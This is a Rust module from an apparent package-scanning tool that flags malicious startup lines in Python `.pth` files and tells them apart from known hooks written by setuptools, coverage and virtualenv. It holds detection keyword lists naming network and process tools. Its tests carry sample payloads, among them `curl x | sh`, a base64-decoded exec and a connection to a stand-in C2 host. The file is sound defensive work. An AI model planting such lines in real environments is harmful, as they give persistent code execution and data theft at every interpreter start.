//! `.pth` files in Python site directories: the `site` module executes every line that starts
//! with `import ` or `import\t` at every interpreter start (`site.addpackage`); other lines are
//! path entries or comments. Lines are classified, never executed.

use mlvet_core::{Finding, Location, Severity, Verdict};

use crate::rules::pth_startup_code;

/// Bytes of a `.pth` file read; a larger file is reported as not fully inspected.
pub const MAX_PTH_BYTES: usize = 1024 * 1024;

/// Characters of a line quoted in a finding.
const QUOTE_CHARS: usize = 240;

/// What one executed line does, by what it contains.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LineKind {
    /// A hook a well-known tool writes, byte for byte or by its exact template.
    Known(&'static str),
    /// Builds or runs code dynamically, decodes hidden content, starts processes or opens
    /// connections: the shapes of startup-hook malware.
    Dangerous(Vec<&'static str>),
    /// Runs code (imports modules) at every interpreter start, nothing overtly dangerous.
    Code(Vec<&'static str>),
}

/// One line the `site` module would execute.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StartupLine {
    /// 1-based line number.
    pub line: u32,
    pub text: String,
    pub kind: LineKind,
}

/// The lines of a `.pth` file that run at interpreter start. Lines are split on every separator
/// any Python version uses (`str.splitlines` in 3.13+, universal newlines before), so a line
/// hidden behind `\v` or `\f` in a comment is still seen.
pub fn startup_lines(content: &[u8]) -> Vec<StartupLine> {
    let text = String::from_utf8_lossy(content);
    let text = text.strip_prefix('\u{feff}').unwrap_or(&text);
    let mut lines = Vec::new();
    let separators = [
        '\n', '\r', '\u{b}', '\u{c}', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}',
        '\u{2029}',
    ];
    for (index, line) in text.split(separators).enumerate() {
        if !(line.starts_with("import ") || line.starts_with("import\t")) {
            continue;
        }
        lines.push(StartupLine {
            line: u32::try_from(index + 1).unwrap_or(u32::MAX),
            text: line.to_string(),
            kind: classify(line),
        });
    }
    lines
}

/// Exact lines written by tools whose hooks use `exec` of a literal (their text is fixed).
const KNOWN_EXACT: &[(&str, &str)] = &[
    (
        "coverage (a1_coverage.pth)",
        r#"import sys; exec('import os\n\nif os.getenv("COVERAGE_PROCESS_START") or os.getenv("COVERAGE_PROCESS_CONFIG"):\n try:\n  import coverage\n except:\n  pass\n else:\n  coverage.process_startup(slug="pth")')"#,
    ),
    (
        "pytest-cov (pytest-cov.pth)",
        r#"import os, sys;exec('if \'COV_CORE_SOURCE\' in os.environ:\n try:\n  from pytest_cov.embed import init\n  init()\n except Exception as exc:\n  sys.stderr.write(\n   "pytest-cov: Failed to setup subprocess coverage. "\n   "Environ: {0!r} "\n   "Exception: {1!r}\\n".format(\n    dict((k, v) for k, v in os.environ.items() if k.startswith(\'COV_CORE\')),\n    exc\n   )\n  )\n')"#,
    ),
];

/// Statements of the templates of setuptools (`distutils-precedence.pth`, `*-nspkg.pth`,
/// `easy-install.pth`), with whitespace removed and package names replaced by `N` (see
/// [`normalize_statement`]). A line is known when every statement it holds is one of these.
const KNOWN_STATEMENTS: &[(&str, &str)] = &[
    ("setuptools (distutils-precedence.pth)", "importos"),
    (
        "setuptools (distutils-precedence.pth)",
        "var='SETUPTOOLS_USE_DISTUTILS'",
    ),
    (
        "setuptools (distutils-precedence.pth)",
        "enabled=os.environ.get(var,'local')=='local'",
    ),
    (
        "setuptools (distutils-precedence.pth)",
        "enabled=os.environ.get(var,'stdlib')=='local'",
    ),
    (
        "setuptools (distutils-precedence.pth)",
        "enabledand__import__('_distutils_hack').add_shim()",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "importsys,types,os",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "has_mfs=sys.version_info>(3,5)",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "p=os.path.join(sys._getframe(1).f_locals['sitedir'],*(N))",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "importlib=__import__('importlib.util')",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "__import__('importlib.machinery')",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "importlib=has_mfsand__import__('importlib.util')",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "has_mfsand__import__('importlib.machinery')",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "m=sys.modules.setdefault(N,importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec(N,[os.path.dirname(p)])))",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "m=has_mfsandsys.modules.setdefault(N,importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec(N,[os.path.dirname(p)])))",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "m=morsys.modules.setdefault(N,types.ModuleType(N))",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "mp=(mor[])andm.__dict__.setdefault('__path__',[])",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "(pnotinmp)andmp.append(p)",
    ),
    (
        "setuptools namespace package (-nspkg.pth)",
        "mandsetattr(sys.modules[N],N,m)",
    ),
    ("setuptools (easy-install.pth)", "importsys"),
    ("setuptools (easy-install.pth)", "sys.__plen=len(sys.path)"),
    ("setuptools (easy-install.pth)", "new=sys.path[sys.__plen:]"),
    ("setuptools (easy-install.pth)", "delsys.path[sys.__plen:]"),
    (
        "setuptools (easy-install.pth)",
        "p=getattr(sys,'__egginsert',0)",
    ),
    ("setuptools (easy-install.pth)", "sys.path[p:p]=new"),
    (
        "setuptools (easy-install.pth)",
        "sys.__egginsert=p+len(new)",
    ),
];

/// Modules whose plain `import X` hook is well known.
const KNOWN_MODULES: &[(&str, &str)] = &[
    ("_virtualenv", "virtualenv (_virtualenv.pth)"),
    ("pywin32_bootstrap", "pywin32 (pywin32.pth)"),
];

/// Words that mark startup-hook malware (the litellm 1.82.8 `litellm_init.pth` spawned a Python
/// process running base64-decoded code), grouped by what they do.
const DYNAMIC_CODE: &[&str] = &[
    "exec",
    "eval",
    "compile",
    "__import__",
    "getattr",
    "importlib",
    "__builtins__",
    "builtins",
    "globals",
    "setattr",
];
const DECODING: &[&str] = &[
    "base64",
    "b64decode",
    "b32decode",
    "b16decode",
    "a85decode",
    "codecs",
    "decode",
    "zlib",
    "bz2",
    "lzma",
    "marshal",
    "pickle",
    "fromhex",
    "unhexlify",
    "binascii",
    "rot13",
    "rot_13",
    "chr",
];
const PROCESS: &[&str] = &[
    "subprocess",
    "system",
    "popen",
    "Popen",
    "spawn",
    "spawnl",
    "spawnv",
    "execv",
    "execve",
    "execl",
    "execvp",
    "fork",
    "pty",
    "ctypes",
    "run",
    "check_output",
    "call",
];
const NETWORK: &[&str] = &[
    "urllib",
    "urlopen",
    "urlretrieve",
    "requests",
    "httpx",
    "socket",
    "http",
    "ftplib",
    "smtplib",
    "telnetlib",
    "aiohttp",
    "dns",
    "curl",
    "wget",
];

fn classify(line: &str) -> LineKind {
    let trimmed = line.trim_end();
    if let Some((what, _)) = KNOWN_EXACT.iter().find(|(_, text)| *text == trimmed) {
        return LineKind::Known(what);
    }
    if let Some(what) = known_template(trimmed) {
        return LineKind::Known(what);
    }
    let words = identifiers(trimmed);
    let found = |list: &'static [&'static str]| -> Vec<&'static str> {
        list.iter()
            .copied()
            .filter(|w| words.iter().any(|x| x == w))
            .collect()
    };
    let dynamic = found(DYNAMIC_CODE);
    let decoding = found(DECODING);
    let process = found(PROCESS);
    let network = found(NETWORK);
    // `run`, `call`, `system`... are only dangerous as process calls next to a process module.
    let process_module = process.iter().any(|w| {
        matches!(
            *w,
            "subprocess"
                | "pty"
                | "ctypes"
                | "popen"
                | "Popen"
                | "spawn"
                | "spawnl"
                | "spawnv"
                | "execv"
                | "execve"
                | "execl"
                | "execvp"
                | "fork"
        )
    }) || (process.contains(&"system") && words.iter().any(|w| w == "os"));
    // `http` alone is a URL scheme in a string; `http.client` is a connection.
    let network_module =
        !network.is_empty() && (network != ["http"] || words.iter().any(|w| w == "client"));
    let mut evidence: Vec<&'static str> = Vec::new();
    if process_module {
        evidence.extend(process.iter().copied());
    }
    if network_module {
        evidence.extend(network.iter().copied());
    }
    if !dynamic.is_empty() && !decoding.is_empty() {
        evidence.extend(dynamic.iter().copied());
        evidence.extend(decoding.iter().copied());
    }
    if !evidence.is_empty() {
        evidence.sort_unstable();
        evidence.dedup();
        return LineKind::Dangerous(evidence);
    }
    let mut shown: Vec<&'static str> = dynamic;
    shown.extend(decoding);
    LineKind::Code(shown)
}

fn known_template(line: &str) -> Option<&'static str> {
    // `import _virtualenv`, `import pywin32_bootstrap`.
    if let Some(module) = line.strip_prefix("import ").map(str::trim)
        && let Some((_, what)) = KNOWN_MODULES.iter().find(|(m, _)| *m == module)
    {
        return Some(what);
    }
    // setuptools editable installs: `import __editable___NAME_finder; __editable___NAME_finder.install()`.
    if let Some(rest) = line.strip_prefix("import __editable___")
        && let Some((module, call)) = rest.split_once(';')
        && module.ends_with("_finder")
        && module
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_')
        && call.trim() == format!("__editable___{module}.install()")
    {
        return Some("setuptools editable install (__editable__.*.pth)");
    }
    let statements = split_statements(line)?;
    let mut what = None;
    for statement in statements {
        let normalized = normalize_statement(&statement);
        if normalized.is_empty() {
            continue;
        }
        let (name, _) = KNOWN_STATEMENTS.iter().find(|(_, s)| *s == normalized)?;
        what = Some(*name);
    }
    what
}

/// Splits on `;` outside string literals; `None` when a literal is unterminated.
fn split_statements(line: &str) -> Option<Vec<String>> {
    let mut statements = Vec::new();
    let mut current = String::new();
    let mut quote: Option<char> = None;
    let mut escaped = false;
    for c in line.chars() {
        current.push(c);
        match quote {
            Some(q) => {
                if escaped {
                    escaped = false;
                } else if c == '\\' {
                    escaped = true;
                } else if c == q {
                    quote = None;
                }
            }
            None => {
                if c == '\'' || c == '"' {
                    quote = Some(c);
                } else if c == ';' {
                    current.pop();
                    statements.push(std::mem::take(&mut current));
                }
            }
        }
    }
    if quote.is_some() {
        return None;
    }
    statements.push(current);
    Some(statements)
}

/// Whitespace removed (only whole statements are compared, against fixed templates), string
/// literals that hold a dotted package name replaced by `N` unless they
/// are part of the template, and `(N,N,...)` tuples collapsed to `(N)`.
fn normalize_statement(statement: &str) -> String {
    const FIXED: &[&str] = &[
        "importlib.util",
        "importlib.machinery",
        "__path__",
        "sitedir",
        "_distutils_hack",
        "SETUPTOOLS_USE_DISTUTILS",
        "local",
        "stdlib",
        "__egginsert",
    ];
    let mut out = String::new();
    let mut chars = statement.trim().chars();
    while let Some(c) = chars.next() {
        if c == '\'' || c == '"' {
            let mut literal = String::new();
            for d in chars.by_ref() {
                if d == c {
                    break;
                }
                literal.push(d);
            }
            let dotted = !literal.is_empty()
                && literal.split('.').all(|p| {
                    !p.is_empty() && p.chars().all(|x| x.is_ascii_alphanumeric() || x == '_')
                });
            if dotted && !FIXED.contains(&literal.as_str()) {
                out.push('N');
            } else {
                out.push('\'');
                out.push_str(&literal);
                out.push('\'');
            }
            continue;
        }
        if !c.is_whitespace() {
            out.push(c);
        }
    }
    while out.contains("(N,N") {
        out = out.replace("(N,N", "(N");
    }
    out.replace("(N,)", "(N)")
}

/// Python identifiers in the line, strings included (payloads hide there).
fn identifiers(line: &str) -> Vec<String> {
    line.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .filter(|w| !w.is_empty())
        .map(str::to_string)
        .collect()
}

/// The findings for a `.pth` file's content: one per executed line that is not a known hook.
pub(crate) fn findings(content: &[u8], display: &str) -> Vec<Finding> {
    let mut findings = Vec::new();
    for line in startup_lines(content) {
        let quoted: String = line.text.chars().take(QUOTE_CHARS).collect();
        let loc = Location::file(display).with_line(line.line);
        match line.kind {
            LineKind::Known(_) => {}
            LineKind::Dangerous(words) => findings.push(
                pth_startup_code::finding(
                    loc,
                    format!(
                        "runs at every Python start and {}: `{quoted}`",
                        "decodes, executes, spawns or connects"
                    ),
                    &quoted,
                )
                .severity(Severity::Critical)
                .verdict(Verdict::Malicious)
                .evidence("indicators", words.join(", ")),
            ),
            LineKind::Code(words) => {
                let finding = pth_startup_code::finding(
                    loc,
                    format!("runs code at every Python start: `{quoted}`"),
                    &quoted,
                );
                findings.push(if words.is_empty() {
                    finding
                } else {
                    finding
                        .severity(Severity::High)
                        .evidence("indicators", words.join(", "))
                });
            }
        }
    }
    findings
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn templates_of_real_tools_are_known() {
        for line in [
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ",
            "import _virtualenv",
            "import __editable___mlvet_demo_0_1_finder; __editable___mlvet_demo_0_1_finder.install()",
            "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google', 'cloud'));importlib = __import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('google.cloud', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google.cloud', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google.cloud', types.ModuleType('google.cloud'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr(sys.modules['google'], 'cloud', m)",
        ] {
            assert!(matches!(classify(line), LineKind::Known(_)), "{line}");
        }
    }

    #[test]
    fn edited_templates_are_not_known() {
        let evil = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('os').system('id'); ";
        assert!(
            matches!(classify(evil), LineKind::Dangerous(_)),
            "{:?}",
            classify(evil)
        );
        let nspkg = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = __import__('importlib.util');__import__('os').system('id')";
        assert!(matches!(classify(nspkg), LineKind::Dangerous(_)));
        assert!(matches!(
            classify("import _virtualenv; import evil"),
            LineKind::Code(_)
        ));
    }

    #[test]
    fn payload_shapes_are_dangerous() {
        for line in [
            "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'])",
            "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))",
            "import os;os.system('curl x | sh')",
            "import socket,os;s=socket.socket()",
            "import urllib.request as u;u.urlopen('http://c2.invalid/')",
            "import codecs;exec(codecs.decode('vzcbeg bf', 'rot13'))",
        ] {
            assert!(matches!(classify(line), LineKind::Dangerous(_)), "{line}");
        }
        assert!(matches!(classify("import mymodule"), LineKind::Code(ref w) if w.is_empty()));
        assert!(
            matches!(classify("import sys; exec('print(1)')"), LineKind::Code(ref w) if w == &["exec"])
        );
    }

    #[test]
    fn only_lines_starting_with_import_run() {
        let content = b"# import os\n/opt/lib\n import os\nimport\tos\n#c\x0bimport sys\n";
        let lines = startup_lines(content);
        let numbers: Vec<u32> = lines.iter().map(|l| l.line).collect();
        assert_eq!(numbers, vec![4, 6]);
    }
}
